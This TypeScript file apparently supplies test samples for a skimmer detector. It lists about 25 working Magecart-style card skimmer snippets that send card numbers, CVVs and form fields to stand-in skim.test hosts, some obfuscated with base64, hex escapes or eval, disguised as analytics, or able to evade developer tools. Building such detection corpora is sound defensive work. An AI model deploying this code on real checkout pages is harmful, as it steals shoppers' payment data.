import { base64, hexEscapes } from './hiding.ts';
import type { MaliciousSample } from './malicious-sample.ts';

const skimmer = (name: string, technique: string, code: string): MaliciousSample => ({
  name,
  technique,
  family: 'magecart',
  code,
});

export const skimmers: readonly MaliciousSample[] = [
  skimmer(
    'submit-to-image',
    'Reads card fields when the form is submitted and sends them in the URL of an image',
    `document.querySelector('#checkout-form').addEventListener('submit', function () {
      var d = 'n=' + document.querySelector('[name=cardnumber]').value + '&c=' + document.querySelector('[name=cvv]').value;
      new Image().src = 'https://collect.skim.test/p.gif?d=' + btoa(d);
    });`,
  ),
  skimmer(
    'beacon-on-leave',
    'Collects all fields and sends them when the visitor leaves',
    `(function () {
      if (location.pathname.indexOf('/checkout') === -1) return;
      var store = {};
      document.addEventListener('change', function (e) { store[e.target.name] = e.target.value; });
      window.addEventListener('beforeunload', function () {
        var cc = document.getElementById('cc-number');
        store.pan = cc && cc.value;
        navigator.sendBeacon('https://stat.skim.test/b', JSON.stringify(store));
      });
    })();`,
  ),
  skimmer(
    'no-cors-fetch',
    'Sends card data with fetch and no-cors',
    `const pay = document.getElementById('place-order');
    pay.addEventListener('click', () => {
      const body = JSON.stringify({ card: document.getElementById('card_number').value, cvc: document.getElementById('card_cvc').value, exp: document.getElementById('card_exp').value });
      fetch('https://api.skim.test/v1', { method: 'POST', mode: 'no-cors', body });
    });`,
  ),
  skimmer(
    'onepage-poll',
    'Polls the fields of a one-page checkout and sends them with an image',
    `var snd = null;
    if ((new RegExp('onepage|checkout|onestep|firecheckout')).test(window.location)) {
      setInterval(function () {
        var inp = document.querySelectorAll('input, select, textarea, checkbox');
        var q = '';
        for (var i = 0; i < inp.length; i++) {
          if (inp[i].value.length > 0) q += (inp[i].name || inp[i].id) + '=' + inp[i].value + '&';
        }
        if (q && q !== snd) { snd = q; var im = document.createElement('img'); im.src = 'https://mage.skim.test/img.php?x=' + btoa(q); }
      }, 700);
    }`,
  ),
  skimmer(
    'jquery-post',
    'Uses the jQuery of the shop',
    `jQuery(document).ready(function ($) {
      $('body').on('click', '#payment-submit', function () {
        var data = { num: $('#cc_number').val(), cvv: $('#cc_cid').val(), month: $('#cc_exp_month').val(), name: $('#cc_owner').val() };
        $.post('https://jq.skim.test/save.php', { d: btoa(JSON.stringify(data)) });
      });
    });`,
  ),
  skimmer(
    'websocket-exfiltration',
    'Sends what is typed into card fields over a socket',
    `var ws = new WebSocket('wss://sock.skim.test/ws');
    ['cardnumber', 'expiry', 'cvv'].forEach(function (id) {
      var el = document.getElementById(id);
      el.addEventListener('blur', function () { ws.send(JSON.stringify({ k: id, v: el.value })); });
    });`,
  ),
  skimmer(
    'hidden-selectors',
    'Keeps selectors and host in base64',
    `(function () {
      var a = ['${base64('#cardnumber')}', '${base64('#cvv')}', '${base64('https://b64.skim.test/i?')}'];
      document.addEventListener('submit', function () {
        var v = document.querySelector(atob(a[0])).value + '|' + document.querySelector(atob(a[1])).value;
        var i = new Image(); i.src = atob(a[2]) + encodeURIComponent(v);
      }, true);
    })();`,
  ),
  skimmer(
    'escaped-names',
    'Writes selectors and members as escape sequences',
    `var _0x1f=document,_0x2f=window,_0x3f='${hexEscapes('input[name=cc_number]')}',_0x4f='${hexEscapes('https://hex.skim.test/?q=')}';
    _0x1f['${hexEscapes('addEventListener')}']('${hexEscapes('submit')}',function(){
      var _0x5f=_0x1f['${hexEscapes('querySelector')}'](_0x3f)['${hexEscapes('value')}'];
      (new _0x2f['${hexEscapes('Image')}']())['${hexEscapes('src')}']=_0x4f+_0x2f['${hexEscapes('btoa')}'](_0x5f);
    });`,
  ),
  skimmer(
    'overlay-form',
    'Puts its own payment form over the real one',
    `(function () {
      if (!/checkout/.test(location.href)) return;
      var real = document.querySelector('#payment-form'); real.style.display = 'none';
      var box = document.createElement('div');
      box.innerHTML = '<form id="pf"><input name="cardnumber" placeholder="Card number"><input name="exp"><input name="cvv"></form>';
      real.parentNode.insertBefore(box, real);
      document.getElementById('pf').addEventListener('submit', function (e) {
        e.preventDefault();
        var f = new FormData(document.getElementById('pf'));
        fetch('https://form.skim.test/c', { method: 'POST', mode: 'no-cors', body: f });
        box.remove(); real.style.display = 'block';
      });
    })();`,
  ),
  skimmer(
    'fake-analytics',
    'Looks like analytics and sends to a host with a familiar name',
    `window.ga_track = function () {
      var fields = document.querySelectorAll('input');
      var payload = [];
      fields.forEach(function (f) { payload.push(f.id + ':' + f.value); });
      var img = new Image(1, 1);
      img.src = 'https://google-analytics.skim.test/collect?v=1&t=event&el=' + btoa(payload.join(';'));
    };
    if (location.href.includes('checkout')) setInterval(window.ga_track, 3000);`,
  ),
  skimmer(
    'xhr-fire-and-forget',
    'Sends card data with an XMLHttpRequest and ignores the response',
    `function grab() {
      var o = {};
      o.number = document.getElementsByName('payment[cc_number]')[0].value;
      o.cvv = document.getElementsByName('payment[cc_cid]')[0].value;
      return JSON.stringify(o);
    }
    document.getElementById('review-btn').onclick = function () {
      var x = new XMLHttpRequest();
      x.open('POST', 'https://xhr.skim.test/in.php', true);
      x.send('data=' + encodeURIComponent(btoa(grab())));
    };`,
  ),
  skimmer(
    'form-action-change',
    'Copies the payment form into a hidden frame that posts elsewhere',
    `var f = document.querySelector('form#payment');
    f.addEventListener('submit', function () {
      var c = document.createElement('form'); c.action = 'https://post.skim.test/?' + document.getElementById('card-number').value;
      var fr = document.createElement('iframe'); fr.src = 'https://post.skim.test/f?cvc=' + document.getElementById('card-cvc').value; fr.style.display = 'none';
      document.body.appendChild(fr); document.body.appendChild(c);
    });`,
  ),
  skimmer(
    'stored-then-sent',
    'Keeps card data in the browser storage and sends it from the next page',
    `document.addEventListener('input', function (e) {
      var cc = document.querySelector('#ccnum').value;
      var acc = { ccnum: cc, cvv: document.querySelector('#cvv2').value };
      localStorage.setItem('_cache', btoa(JSON.stringify(acc)));
      window.__q = acc;
    });
    setTimeout(function () { navigator.sendBeacon('https://later.skim.test/', btoa(JSON.stringify(window.__q))); }, 5000);`,
  ),
  skimmer(
    'script-address',
    'Sends card data in the URL of a script',
    `function S(u) { var s = document.createElement('script'); s.src = u; document.body.appendChild(s); }
    document.body.addEventListener('mousedown', function () {
      var n = document.querySelector('input[autocomplete="cc-number"]');
      if (n && n.value.length > 14) S('https://js.skim.test/jquery.min.js?v=' + btoa(n.value + '~' + document.querySelector('input[autocomplete="cc-csc"]').value));
    });`,
  ),
  skimmer(
    'debugger-aware',
    'Stops when developer tools are open',
    `(function () {
      var open = window.outerWidth - window.innerWidth > 160 || window.outerHeight - window.innerHeight > 160;
      if (open || (window.Firebug && window.Firebug.chrome && window.Firebug.chrome.isInitialized)) return;
      var g = function (s) { var e = document.querySelector(s); return e ? e.value : ''; };
      document.addEventListener('click', function (e) {
        if (e.target.id !== 'pay') return;
        var b = [g('#card-num'), g('#exp-month'), g('#exp-year'), g('#cvc')].join('|');
        new Image().src = 'https://quiet.skim.test/1x1.png?' + btoa(b);
      });
    })();`,
  ),
  {
    name: 'keypress-card-logger',
    technique: 'Records keys in card fields',
    family: 'malware',
    code: `var buf = '';
    document.getElementById('cardnumber').addEventListener('keypress', function (e) { buf += String.fromCharCode(e.which); });
    document.getElementById('cvv').addEventListener('keypress', function (e) { buf += e.key; });
    setInterval(function () { if (buf) { new Image().src = 'https://keys.skim.test/k?b=' + encodeURIComponent(buf); buf = ''; } }, 2000);`,
  },
  skimmer(
    'class-with-state',
    'Collects fields in a class and sends them later',
    `class Metrics {
      constructor() { this.queue = {}; this.endpoint = 'https://class.skim.test/m'; document.addEventListener('change', (e) => this.collect(e)); }
      collect(e) { this.queue[e.target.name] = e.target.value; this.queue.cvv = document.querySelector('[name=cvv]').value; if (/checkout|payment/.test(location.pathname)) this.flush(); }
      flush() { navigator.sendBeacon(this.endpoint, JSON.stringify(this.queue)); }
    }
    new Metrics();`,
  ),
  skimmer(
    'card-pattern-filter',
    'Recognises card numbers in all fields by a pattern',
    `setInterval(function () {
      var els = document.getElementsByTagName('input');
      for (var i = 0; i < els.length; i++) {
        var v = els[i].value.replace(/ /g, '');
        if (/^(?:4[0-9]{12}(?:[0-9]{3})?|5[1-5][0-9]{14})$/.test(v)) {
          var all = {}; for (var j = 0; j < els.length; j++) all[els[j].name] = els[j].value;
          fetch('https://regex.skim.test/', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify(all)) });
        }
      }
    }, 1500);`,
  ),
  skimmer(
    'eval-in-image-handler',
    'Hides a skimmer as base64 in a handler',
    `var t = '${base64("var f=document.querySelector('#cc-number');f.addEventListener('blur',function(){new Image().src='https://inner.skim.test/?'+btoa(f.value+document.querySelector('#cc-cvv').value)})")}';
    setTimeout(function () { eval(atob(t)); }, 1000);`,
  ),
  skimmer(
    'library-callback',
    'Uses a library that passes itself to a callback, and ignores the response',
    `jQuery17(document).ready(function (k) {
      k('form').on('change', function () {
        var all = ''; var f = document.querySelectorAll('input, select'); for (var i = 0; i < f.length; i++) all += f[i].name + '=' + f[i].value + '&';
        k.ajax({ url: 'https://library.skim.test/a.php', type: 'POST', data: all, success: function (r) { return false; }, error: function () { return false; } });
      });
    });`,
  ),
  skimmer(
    'status-only',
    'Sends card fields and looks only whether they arrived',
    `document.getElementById('pay').onclick = function () {
      var d = 'n=' + document.getElementById('card_number').value + '&c=' + document.getElementById('card_cvv').value, x = new XMLHttpRequest();
      x.onreadystatechange = function () { if (x.readyState === 4 && x.status === 200) done = 1; };
      x.open('POST', 'https://status.skim.test/l.php', true); x.send(d);
    };`,
  ),
  skimmer(
    'made-form',
    'Copies the fields of the payment into a form that the library makes',
    `jQuery('#payment_form_card').on('change', 'input', function () {
      var f = jQuery('<form method="post" target="h" action="https://form.skim.test/s"></form>');
      jQuery('#payment_form_card :input').each(function () { f.append(jQuery('<input type=hidden>').attr('name', this.name).val(jQuery(this).val())); });
      f.appendTo('body').submit();
    });`,
  ),
  skimmer(
    'button-led-elsewhere',
    'Replaces what the payment button does by a redirect',
    `jQuery(function () { jQuery('#checkout-place-order').attr('onclick', 'paySafely();'); });
    function paySafely() { jQuery(location).attr('href', '//pay.skim.test/?shop=' + btoa(location.host)); }`,
  ),
  skimmer(
    'name-in-itself',
    'A function whose name is a variable inside of it collects the fields for a hidden frame',
    `function put(u) { var f = document.createElement('IFRAME'); f.setAttribute('src', u); f.style.display = 'none'; document.body.appendChild(f); }
    window.onload = function () {
      function e() { var e = 'host=' + location.host; e += '&n=' + document.getElementById('cc_number').value; return e + '&c=' + document.getElementById('cc_cid').value; }
      document.getElementById('buttons').onclick = function () { var n = e(); put('https://itself.skim.test/?' + n); };
    };`,
  ),
  skimmer(
    'page-of-scripts',
    'A page with several scripts, one of which takes the form',
    `<!doctype html><html><body><script>var shop = { id: 1 };</script><form><input name="cc_number"></form>
    <script>document.forms[0].onsubmit = function (e) { new Image().src = 'https://page.skim.test/?' + btoa(this.cc_number.value); };</script></body></html>`,
  ),
];
